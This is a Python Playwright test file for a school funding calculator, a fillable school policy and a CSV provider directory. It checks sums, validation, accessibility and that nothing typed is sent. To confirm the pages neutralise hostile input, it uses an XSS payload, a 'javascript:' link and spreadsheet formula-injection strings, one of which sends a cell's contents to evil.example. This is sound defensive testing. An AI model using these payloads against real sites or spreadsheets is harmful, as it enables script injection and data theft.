"""The pages that compute: the funding calculator, the school policy and the provider directory, in a real browser."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Download, FilePayload, Locator, Page, expect

from tests.browser.conftest import Opened
from tests.browser.test_site_pages import FOCUS

FUNDING = "protocol/funding/"
POLICY = "toolkit/school-policy/"
DIRECTORY = "toolkit/provider-directory/"
TODAY = datetime(2026, 11, 23, 12)
WORD = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
HOSTILE = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
COLUMNS = ("Name", "What they offer", "Ages", "Area", "Places", "Cost", "Registered", "Contact", "Last checked")
Axe = Callable[[Page], list[str]]


# The funding calculator


def work_out(page: Page, **figures: str) -> None:
    """Nothing; the figures are typed and the sum is asked for."""
    for name, value in figures.items():
        page.locator(f"#{name}").fill(value)
    page.locator(".sums button[type=submit]").click()


def cells(table: Locator) -> list[list[str]]:
    """The words of a table, row by row, without its head."""
    rows: list[list[str]] = table.locator("tbody tr").evaluate_all(
        "rows => rows.map(row => [...row.cells].map(cell => cell.innerText.trim()))"
    )
    return rows


def shown(page: Page) -> dict[str, tuple[str, str]]:
    """The result of the calculator: then and as proposed, by the name of the row."""
    return {row[0]: (row[1], row[2]) for row in cells(page.locator(".result table"))}


def test_the_worked_example_of_the_text_is_what_the_calculator_gives(opened: Opened) -> None:
    page = opened(FUNDING)
    page.locator("[data-fill]").click()
    said = cells(page.locator("#a-worked-example ~ .scroll table, #a-worked-example ~ table").first)
    assert shown(page) == {row[0]: (row[2], row[3]) for row in said}


def test_the_calculator_takes_the_shares_that_the_table_of_the_page_names(opened: Opened) -> None:
    page = opened(FUNDING)
    table = {row[0]: row for row in cells(page.locator("#the-two-ways ~ .scroll table, #the-two-ways ~ table").first)}
    form = page.locator("form.sums")
    for name, part in (("awpu", "AWPU"), ("notional", "6,000"), ("premium", "Pupil Premium")):
        row = next(row for title, row in table.items() if part in title)
        assert row[2].startswith(f"{form.get_attribute(f'data-{name}')}%")
    assert page.locator("#notional").input_value() == "6,000"


@pytest.mark.parametrize("typed", ["4000", "£4,000", " 4 000 ", "4,000.00", "£ 4000.0"])
def test_an_amount_counts_alike_however_it_is_written(opened: Opened, typed: str) -> None:
    page = opened(FUNDING)
    work_out(page, awpu=typed, premium="£1,000.00")
    assert shown(page)["One pupil, one year"] == ("£3,200.00", "£9,000.00")


def test_the_parts_add_up_to_the_year_and_the_year_to_all_pupils(opened: Opened) -> None:
    page = opened(FUNDING)
    work_out(page, awpu="4123.47", notional="6000", premium="1234.56", terms="6", pupils="7")
    result = shown(page)

    def pence(row: str) -> tuple[int, int]:
        before, after = (round(float(sum_.replace("£", "").replace(",", "")) * 100) for sum_ in result[row])
        return before, after

    year = pence("One pupil, one year")
    parts = [pence(row) for row in ("AWPU", "Notional funding", "Pupil Premium Grant")]
    assert year == tuple(sum(column) for column in zip(*parts, strict=True)) == (329878, 933334)
    assert pence("7 pupils, one year") == (year[0] * 7, year[1] * 7)
    assert pence("One pupil, one term") == (round(year[0] / 6), round(year[1] / 6))


@pytest.mark.parametrize(
    "typed", ["", "four", "-1", "4,00", "4 5", "10 12", "4 0000", "1.234", "1e3", "NaN", "£", "2000000", HOSTILE]
)
def test_what_is_no_amount_is_said_beside_its_field_and_gives_no_result(opened: Opened, typed: str) -> None:
    page = opened(FUNDING)
    work_out(page, awpu="4000", premium="1000")
    assert shown(page)
    work_out(page, premium=typed)
    field, error = page.locator("#premium"), page.locator("#premium-error")
    assert error.inner_text()
    assert "premium-error" in (field.get_attribute("aria-describedby") or "").split()
    assert field.get_attribute("aria-invalid") == "true"
    assert page.evaluate("document.activeElement.id") == "premium"
    assert page.locator(".result table").count() == 0
    assert not page.locator("#awpu-error").inner_text()
    work_out(page, premium="1000")
    assert not error.inner_text()
    assert shown(page)


@pytest.mark.parametrize(
    ("name", "typed"),
    [
        ("terms", "0"),
        ("terms", "7"),
        ("pupils", "1.5"),
        ("pupils", "0"),
        ("pupils", "1 6"),
        ("pupils", "10 12"),
        ("pupils", "1,6"),
    ],
)
def test_a_count_that_cannot_be_is_said_beside_its_field(opened: Opened, name: str, typed: str) -> None:
    page = opened(FUNDING)
    work_out(page, **{"awpu": "4000", "premium": "0", name: typed})
    assert page.locator(f"#{name}-error").inner_text()
    assert page.locator(".result table").count() == 0


def test_the_result_of_the_sum_is_announced(opened: Opened) -> None:
    page = opened(FUNDING)
    work_out(page, awpu="4000", premium="0")
    assert page.locator(".result").get_attribute("role") == "status"


def test_without_a_script_the_example_stands_and_no_dead_form_is_shown(opened: Opened) -> None:
    page = opened(FUNDING, java_script_enabled=False)
    assert not page.locator("form.sums").is_visible()
    assert page.locator("#a-worked-example").is_visible()


# The school policy

NAMES = {"name of the school": "Elm & Ash <School>", "headteacher": "The “Head”", "named lead": HOSTILE}


def fill_in(page: Page, names: dict[str, str]) -> None:
    """Nothing; each name is typed into the field of its blank."""
    for words, name in names.items():
        page.locator(".fill").get_by_label(words[0].upper() + words[1:], exact=True).fill(name)


def blank(page: Page, words: str) -> Locator:
    """The places of a blank in the policy."""
    return page.locator(f'.policy [data-blank="{words}"]')


def test_what_a_school_types_stands_in_every_place_of_that_blank_as_text(opened: Opened) -> None:
    page = opened(POLICY)
    empty = blank(page, "headteacher").all_inner_texts()
    assert len(empty) > 1
    fill_in(page, NAMES)
    for words, name in NAMES.items():
        assert set(blank(page, words).all_inner_texts()) == {name}
    assert page.locator(".policy img, .policy script").count() == 0
    assert page.title() != "owned"
    fill_in(page, {"headteacher": " "})
    assert blank(page, "headteacher").all_inner_texts() == empty


def test_every_blank_of_the_policy_has_a_field(opened: Opened) -> None:
    page = opened(POLICY)
    words = page.locator(".policy [data-blank]").evaluate_all("all => all.map(b => b.dataset.blank)")
    fill_in(page, dict.fromkeys(words, "filled"))
    assert set(page.locator(".policy [data-blank]").all_inner_texts()) == {"filled"}


def test_the_copied_text_is_the_whole_policy_and_nothing_else(opened: Opened) -> None:
    page = opened(POLICY, permissions=["clipboard-read", "clipboard-write"])
    fill_in(page, {"name of the school": "Elm School", "headteacher": "A. Head"})
    page.get_by_role("button", name="Copy as text").click()
    page.locator(".fill [role=status]:not(:empty)").wait_for()
    copied = page.evaluate("navigator.clipboard.readText()")
    for said in page.locator(".policy h3, .policy li, .policy td").all_inner_texts():
        assert " ".join(said.split()) in copied
    assert "Elm School" in copied
    assert "[named lead]" in copied
    heading = page.locator(".policy ~ h2").first.inner_text()
    assert heading not in copied


def fields(content: bytes) -> list[tuple[str, str]]:
    """The form fields of a Word file: title and words, in order."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert parts.testzip() is None
        root = ElementTree.fromstring(parts.read("word/document.xml"))
    found = []
    for field in root.iter(f"{WORD}sdt"):
        alias = field.find(f"{WORD}sdtPr/{WORD}alias")
        if alias is not None:
            found.append((alias.get(f"{WORD}val", ""), "".join(t.text or "" for t in field.iter(f"{WORD}t"))))
    return found


def content(download: Download) -> bytes:
    """What was saved."""
    return Path(download.path()).read_bytes()


def test_the_saved_word_file_is_the_sites_own_with_the_names_in_its_fields(opened: Opened, site: Path) -> None:
    page = opened(POLICY)
    fill_in(page, NAMES)
    with page.expect_download() as saved:
        page.get_by_role("button", name="Word file").click()
    empty = fields((site / "toolkit" / "school-policy.docx").read_bytes())
    full = fields(content(saved.value))
    assert {"name of the school", "headteacher", "named lead"} <= {title for title, _ in empty}
    assert full == [(title, NAMES.get(title, words)) for title, words in empty]


def test_a_word_file_is_xml_whatever_a_school_pastes(opened: Opened) -> None:
    """Word refuses a file with one character that XML has no place for; what turns words round is left out as well."""
    page = opened(POLICY)
    lost = [0xFFFF, 0xFFFE, 0xD800, 0xDC00, 0x0000, 0x001B, 0x0085, 0x202E, 0x2066]
    kept = [ord("B"), 0xD83D, 0xDE00]
    units = [ord("A"), *(unit for one in lost for unit in (one, ord("-"))), *kept, 0xD83D]
    page.locator(".fill").get_by_label("Headteacher", exact=True).evaluate(
        "(input, units) => { input.value = String.fromCharCode(...units); input.dispatchEvent(new Event('input')); }",
        units,
    )
    with page.expect_download() as saved:
        page.get_by_role("button", name="Word file").click()
    found = {"".join(words.split()) for title, words in fields(content(saved.value)) if title == "headteacher"}
    assert found == {"A" + "-" * len(lost) + "B\U0001f600"}
    shown = {"".join(words.split()) for words in blank(page, "headteacher").all_inner_texts()}
    assert shown == found


def test_nothing_that_a_school_types_is_stored_or_sent(opened: Opened) -> None:
    page = opened(POLICY)
    sent: list[str] = []
    page.on("request", lambda r: sent.append(r.url + (r.post_data or "")))
    fill_in(page, {"headteacher": "Quillfeather"})
    with page.expect_download():
        page.get_by_role("button", name="Word file").click()
    assert not [what for what in sent if "Quillfeather" in what]
    stored = "JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, location.href])"
    assert "Quillfeather" not in page.evaluate(stored)
    page.reload()
    assert "Quillfeather" not in page.content()


def test_on_paper_the_policy_stands_alone(opened: Opened) -> None:
    page = opened(POLICY)
    fill_in(page, {"headteacher": "A. Head"})
    page.emulate_media(media="print")
    assert page.locator(".policy h3").first.is_visible()
    assert not page.locator("form.fill").is_visible()
    assert not page.locator(".policy ~ h2").first.is_visible()


def test_without_a_script_the_policy_can_be_read_and_its_word_file_taken(opened: Opened, site: Path) -> None:
    page = opened(POLICY, java_script_enabled=False)
    assert page.locator("#the-policy").is_visible()
    assert page.locator("article a[href$='school-policy.docx']").count() == 1


# The provider directory


def sheet(*rows: tuple[str, ...] | list[str], head: tuple[str, ...] = COLUMNS) -> bytes:
    """A CSV file of some rows under the names of the columns."""
    out = io.StringIO()
    csv.writer(out).writerows([head, *rows])
    return out.getvalue().encode()


def provider(name: str, checked: str = "2026-09-01", registered: str = "yes", **more: str) -> list[str]:
    """A row of a directory."""
    filled = {"Name": name, "Last checked": checked, "Registered": registered, **more}
    return [filled.get(column, f"{column.lower()} of it") for column in COLUMNS]


def choose(page: Page, content: bytes) -> None:
    """Nothing; the reader has chosen that file, and the page has said what it thinks of it."""
    page.locator("#file").set_input_files([FilePayload(name="d.csv", mimeType="text/csv", buffer=content)])
    page.locator(".directory [role=status]:not(:empty), .directory .error:not(:empty)").first.wait_for()


def at_noon(page: Page) -> None:
    """Nothing; it is noon of that day for the page."""
    page.clock.set_fixed_time(TODAY)


def names(page: Page) -> list[str]:
    """The providers that are shown, in order."""
    return page.locator(".providers h3").all_inner_texts()


def problems(page: Page) -> list[str]:
    """What the page says about the rows of the file."""
    return page.locator(".wrong-rows li").all_inner_texts()


def test_a_directory_is_shown_sorted_with_every_column(opened: Opened) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    choose(page, sheet(provider("Willow"), provider("ash"), provider("Élan"), provider("Birch", Contact="a, b\nc")))
    assert names(page) == ["ash", "Birch", "Élan", "Willow"]
    assert not page.locator(".wrong-rows").is_visible()
    birch = page.locator(".providers li").nth(1)
    assert birch.locator("dt").all_inner_texts() == list(COLUMNS[1:])
    assert "1 September 2026" in birch.inner_text()
    assert "a, b\nc" in birch.inner_text()


def test_the_order_can_be_the_area_or_the_longest_unchecked(opened: Opened) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    rows = [
        provider("A", "2026-05-01", Area="z"),
        provider("B", "2026-03-01", Area="y"),
        provider("C", "2026-04-01", Area="x"),
    ]
    choose(page, sheet(*rows))
    page.locator("#order").select_option("area")
    assert names(page) == ["C", "B", "A"]
    page.locator("#order").select_option("checked")
    assert names(page) == ["B", "C", "A"]


def test_an_entry_is_stale_from_the_day_after_a_year(opened: Opened) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    days = {"a year ago": "2025-11-23", "a year and a day ago": "22/11/2025", "today": "23/11/2026"}
    choose(page, sheet(*[provider(name, day) for name, day in days.items()]))
    assert page.locator(".providers li.stale h3").all_inner_texts() == ["a year and a day ago"]
    assert page.locator(".providers li.stale .mark").inner_text()
    assert not problems(page)


def test_all_words_that_are_looked_for_must_be_in_an_entry_whatever_their_case_or_accents(opened: Opened) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    choose(
        page,
        sheet(provider("Café Tuition", Area="North"), provider("Cafe", Area="South"), provider("Oak", Area="North")),
    )
    page.locator("#words").fill("CAFE north")
    assert names(page) == ["Café Tuition"]
    page.locator("#words").fill("nowhere")
    assert names(page) == []
    page.locator("#words").fill("")
    assert len(names(page)) == 3


def test_each_fault_is_told_with_the_row_that_a_spreadsheet_shows(opened: Opened) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    rows = [
        provider("Right"),
        provider("No such day", "31/02/2026"),
        ["", "", ""],
        provider(" "),
        [*provider("Too long"), "more"],
        provider("Not born yet", "2027-01-01"),
        provider("Perhaps", registered="maybe"),
        provider("Never", ""),
    ]
    choose(page, sheet(*rows))
    assert [said.split(":")[0] for said in problems(page)] == [f"Row {row}" for row in (3, 5, 6, 7, 8, 9)]
    assert names(page) == ["Never", "No such day", "Not born yet", "Perhaps", "Right"]
    assert page.locator(".providers li.stale h3").all_inner_texts() == ["Never", "No such day", "Not born yet"]


def test_the_template_of_the_site_is_read_and_its_example_is_never_shown(opened: Opened, site: Path) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    link = page.locator("article a[href$='provider-directory.csv']").get_attribute("href")
    assert link
    template = (site / DIRECTORY / link).resolve().read_bytes()
    choose(page, template)
    assert names(page) == []
    assert [said.split(":")[0] for said in problems(page)] == ["Row 2"]
    explained = cells(page.locator("#take-the-template ~ .scroll table, #take-the-template ~ table").first)
    assert next(csv.reader(io.StringIO(template.decode()))) == [row[0] for row in explained] == list(COLUMNS)


@pytest.mark.parametrize(
    "content",
    [b"", b"\n\n", b"PK\x03\x04\x00\x00", sheet(provider("A")[:3], head=COLUMNS[:3]), b'"' + b"x" * 50],
    ids=["empty", "blank lines", "a spreadsheet", "columns missing", "an open quotation mark"],
)
def test_a_file_that_is_no_directory_is_refused_in_words(opened: Opened, content: bytes) -> None:
    page = opened(DIRECTORY)
    choose(page, content)
    assert page.locator(".directory .error").inner_text()
    assert page.locator("#file").get_attribute("aria-invalid") == "true"
    choose(page, sheet(provider("Right")))
    assert names(page) == ["Right"]
    assert not page.locator(".directory .error").inner_text()


def test_a_file_of_more_than_ten_megabytes_is_refused_unread(opened: Opened, tmp_path: Path) -> None:
    page = opened(DIRECTORY)
    large = tmp_path / "large.csv"
    large.write_bytes(sheet(provider("A")) + b"," * (10 * 1024 * 1024))
    page.locator("#file").set_input_files(large)
    page.locator(".directory .error:not(:empty)").wait_for()
    assert names(page) == []
    assert page.evaluate("typeof Papa") == "undefined"


def test_cells_stay_text_whatever_they_hold(opened: Opened) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    choose(page, sheet(provider(HOSTILE, Contact="javascript:alert(1)", Cost="=1+1", Area=HOSTILE)))
    assert names(page) == [HOSTILE]
    assert page.locator(".providers img, .providers script, .providers a").count() == 0
    assert page.title() != "owned"
    assert "=1+1" in page.locator(".providers").inner_text()


def test_a_saved_directory_holds_no_formula_and_is_read_back_as_it_was(opened: Opened) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    formulas = ["=HYPERLINK(1)", "+44 0", "-1", "@SUM(1)"]
    choose(page, sheet(*[provider(f"{i}", "22/11/2025", Contact=cell) for i, cell in enumerate(formulas)]))
    page.locator("#words").fill("hyperlink")
    with page.expect_download() as saved:
        page.locator("[data-save]").click()
    rows = list(csv.reader(io.StringIO(content(saved.value).decode("utf-8-sig"))))
    assert rows[0] == list(COLUMNS)
    assert not [cell for row in rows for cell in row if cell[:1] in set("=+-@")]
    assert [row[-1] for row in rows[1:]] == ["2025-11-22"] * 4
    page.locator("#words").fill("")
    choose(page, content(saved.value))
    contacts = page.locator(".providers dd").nth(6)
    assert contacts.inner_text() == formulas[0]
    assert not problems(page)


def saved_rows(page: Page) -> list[list[str]]:
    """The rows of the file that the page saves, below the names of the columns."""
    with page.expect_download() as saved:
        page.locator("[data-save]").click()
    head, *rows = csv.reader(io.StringIO(content(saved.value).decode("utf-8-sig"), newline=""))
    assert head == list(COLUMNS)
    return rows


BREAKS = ("\n", "\r", "\r\n", "\u2028", "\u2029")


@pytest.mark.parametrize("before", ["", " ", "\t", "\u00a0", '"', "'", "\u200b", "\ufeff", "\u200d", "\r\n"], ids=ascii)
def test_no_cell_with_lines_is_saved_as_a_formula_and_each_is_read_back_as_it_was(opened: Opened, before: str) -> None:
    """A safety option of the library stops at the first line; and what a spreadsheet may skip hides no formula."""
    page = opened(DIRECTORY, prepare=at_noon)
    starts = ("=1+1", '=HYPERLINK("http://evil.example/?"&A1)', "+1", "-1", "@SUM(1)", "\uff1d1", "\uff20SUM(1)")
    cells = [f"{before}{start}{line}note" for start in starts for line in BREAKS]
    choose(page, sheet(*[provider(f"P{i:02}", Contact=cell) for i, cell in enumerate(cells)]))
    first = [row[COLUMNS.index("Contact")] for row in saved_rows(page)]
    assert len(first) == len(cells)
    assert {cell[0] for cell in first} == {"'"}
    read = page.locator(".providers li").evaluate_all("all => all.map(li => li.querySelectorAll('dd')[6].textContent)")
    choose(page, sheet(*[provider(f"P{i:02}", Contact=cell) for i, cell in enumerate(first)]))
    assert not page.locator(".wrong-rows").is_visible()
    again = page.locator(".providers li").evaluate_all("all => all.map(li => li.querySelectorAll('dd')[6].textContent)")
    assert again == read
    assert [row[COLUMNS.index("Contact")] for row in saved_rows(page)] == first


@pytest.mark.parametrize(
    ("line", "separator"),
    [
        ("sep=,\n", ","),
        ("sep=;\r\n", ";"),
        ('"SEP=|"\n', "|"),
        ("sep=\t\n", "\t"),
        ("sep=,,,,,,,,\n", ","),
        ("sep=;\n", ","),
    ],
)
def test_the_line_that_tells_a_spreadsheet_its_separator_is_no_row(opened: Opened, line: str, separator: str) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    rows = sheet(provider("Right"), provider("Late", "soon")).decode().replace(",", separator)
    choose(page, (line + rows).encode())
    assert names(page) == ["Late", "Right"]
    assert [said.split(":")[0] for said in problems(page)] == ["Row 3"]


def test_a_cell_of_a_hundred_thousand_letters_is_cut_on_the_page_and_saved_whole(opened: Opened) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    long = "A" * 100_000
    head = (*COLUMNS, long)
    choose(page, sheet(provider(long, Contact="\U0001f600" * 400, Registered=long), provider("B", long), head=head))
    assert {said.split(":")[0] for said in problems(page)} == {"Row 1", "Row 2", "Row 3"}
    assert max(map(len, problems(page))) < 1_000
    assert max(len(words) for words in page.locator(".providers").locator("h3, dt, dd").all_inner_texts()) < 1_000
    assert "\ufffd" not in page.locator(".providers").inner_text()
    first, second = saved_rows(page)
    assert (first[0], first[6], first[7]) == (long, "unknown", "\U0001f600" * 400)
    assert second[-1] == long


@pytest.mark.parametrize(
    "hidden",
    ["\u202e", "\u202a", "\u2067", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\u00ad", "\U000e0041"],
    ids=ascii,
)
def test_what_turns_words_round_or_is_not_seen_is_left_out_and_named(opened: Opened, hidden: str) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    choose(page, sheet(provider("Right"), provider(f"Wil{hidden}low", f"{hidden}2026-09-01", Area=f"{hidden}")))
    assert names(page) == ["Right", "Willow"]
    assert [said.split(" holds")[0] for said in problems(page)] == [
        "Row 3: Name", "Row 3: Area", "Row 3: Last checked"
    ]  # fmt: skip
    assert hidden not in page.locator(".directory").inner_text()
    assert hidden not in str(saved_rows(page))
    assert saved_rows(page)[1][-1] == "2026-09-01"


@pytest.mark.parametrize(
    "written",
    ["21/11/2025", "21/11/25", "21-Nov-25", "21-Nov-2025", "21 Nov 25", "21 November 2025", "21-Sept-25", "2025-11-21",
     "21.11.2025", "2025-11-21 00:00:00", "21/11/2025 00:00", "2025-11-21T09:30:00.000Z"],
)  # fmt: skip
def test_a_date_is_read_as_a_british_spreadsheet_writes_it(opened: Opened, written: str) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    choose(page, sheet(provider("Known", written)))
    assert not problems(page)
    assert saved_rows(page)[0][-1] == ("2025-09-21" if "Sept" in written else "2025-11-21")


@pytest.mark.parametrize(
    "written", ["26-11-21", "11/21/2025", "Nov-25", "46347", "31-Feb-25", "21-Juin-25", "21/11", "1e5"]
)
def test_what_may_be_two_days_or_none_is_no_date(opened: Opened, written: str) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    choose(page, sheet(provider("Unknown", written)))
    assert [said.split(":")[0] for said in problems(page)] == ["Row 2"]
    assert page.locator(".providers li.stale").count() == 1


def test_an_entry_can_be_marked_as_checked_today_and_saved(opened: Opened) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    choose(page, sheet(provider("Old", "2020-01-01")))
    assert page.locator(".providers .stale").count() == 1
    page.locator(".providers button").press("Enter")
    expect(page.locator(".providers .stale")).to_have_count(0)
    assert page.evaluate("document.activeElement.closest('li') !== null")
    with page.expect_download() as saved:
        page.locator("[data-save]").click()
    assert list(csv.reader(io.StringIO(content(saved.value).decode("utf-8-sig"))))[1][-1] == "2026-11-23"


def test_an_older_spreadsheets_letters_are_read_too(opened: Opened) -> None:
    page = opened(DIRECTORY)
    choose(page, sheet(provider("Café")).decode().encode("cp1252"))
    assert names(page) == ["Café"]


def test_a_long_directory_says_how_much_of_it_is_shown(opened: Opened) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    choose(page, sheet(*[provider(f"P{i}") for i in range(450)]))
    assert 0 < len(names(page)) < 450
    assert "450" in page.locator(".directory [role=status]").inner_text()


def test_the_reader_of_files_is_loaded_only_when_a_file_is_chosen(opened: Opened) -> None:
    page = opened(DIRECTORY)
    assert page.locator("script[src*=vendor]").count() == 0
    choose(page, sheet(provider("A")))
    assert page.locator("script[src*=vendor]").count() == 1


def test_on_paper_the_list_stands_alone(opened: Opened) -> None:
    page = opened(DIRECTORY, prepare=at_noon)
    choose(page, sheet(provider("A"), provider("", "x")))
    page.emulate_media(media="print")
    assert page.locator(".providers h3").is_visible()
    for other in ("form.choose", ".wrong-rows", "#registered-or-not", ".providers button"):
        assert not page.locator(other).first.is_visible(), other


# All three


def ready(page: Page, path: str) -> None:
    """Nothing; the page is used, with all that it can show."""
    if path == FUNDING:
        page.locator("[data-fill]").click()
        work_out(page, pupils="3")
    elif path == POLICY:
        fill_in(
            page,
            {
                "name of the school": "A school with a name that is rather long for a small telephone",
                "headteacher": "A. Head",
            },
        )
    else:
        choose(
            page, sheet(provider("Current", Contact="x" * 80), provider("Old", "2020-01-01"), provider("Wrong", "soon"))
        )


PATHS = {"funding": FUNDING, "policy": POLICY, "directory": DIRECTORY}


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("path", PATHS.values(), ids=PATHS)
def test_axe_finds_nothing_on_a_page_in_use(opened: Opened, axe: Axe, path: str, scheme: str) -> None:
    page = opened(path, color_scheme=scheme)
    ready(page, path)
    for width in (1280, 375):
        page.set_viewport_size({"width": width, "height": 800})
        assert axe(page) == [], width


@pytest.mark.parametrize("path", PATHS.values(), ids=PATHS)
def test_a_page_in_use_is_no_wider_than_a_small_phone(opened: Opened, path: str) -> None:
    page = opened(path, width=320, height=640)
    ready(page, path)
    assert page.evaluate("document.documentElement.scrollWidth") <= 320


@pytest.mark.parametrize("path", PATHS.values(), ids=PATHS)
def test_every_field_and_button_is_reached_by_the_tab_key_and_marked(opened: Opened, path: str) -> None:
    page = opened(path, width=375, height=700)
    ready(page, path)
    wanted = page.locator("article :is(input, select, button):visible").count()
    page.locator("article h1").evaluate("e => { e.tabIndex = -1; e.focus(); }")
    reached = 0
    for _ in range(150):
        page.keyboard.press("Tab")
        focus = page.evaluate(FOCUS)
        if focus is None:
            break
        assert focus["seen"], focus["name"]
        assert focus["marked"], focus["name"]
        reached += page.evaluate("document.activeElement.matches('article :is(input, select, button)')")
    assert reached == wanted


@pytest.mark.parametrize("path", PATHS.values(), ids=PATHS)
def test_the_funding_sum_the_policy_and_the_directory_send_nothing(opened: Opened, path: str) -> None:
    page = opened(path)
    sent: list[str] = []
    page.on("request", lambda r: sent.append(f"{r.method} {r.url}"))
    ready(page, path)
    assert not [what for what in sent if not what.startswith("GET") or "?" in what]


@pytest.mark.parametrize("width", [1280, 375])
@pytest.mark.parametrize("path", ["protocol/escalation/", "pathway/"])
def test_the_words_of_a_picture_are_about_as_large_as_those_around_it(opened: Opened, path: str, width: int) -> None:
    page = opened(path, width=width)
    sizes = page.locator("svg.drawn text:visible").evaluate_all(
        "all => all.map(t => t.getScreenCTM().a * parseFloat(getComputedStyle(t).fontSize))"
    )
    assert sizes
    assert 14 <= min(sizes) <= max(sizes) <= 23
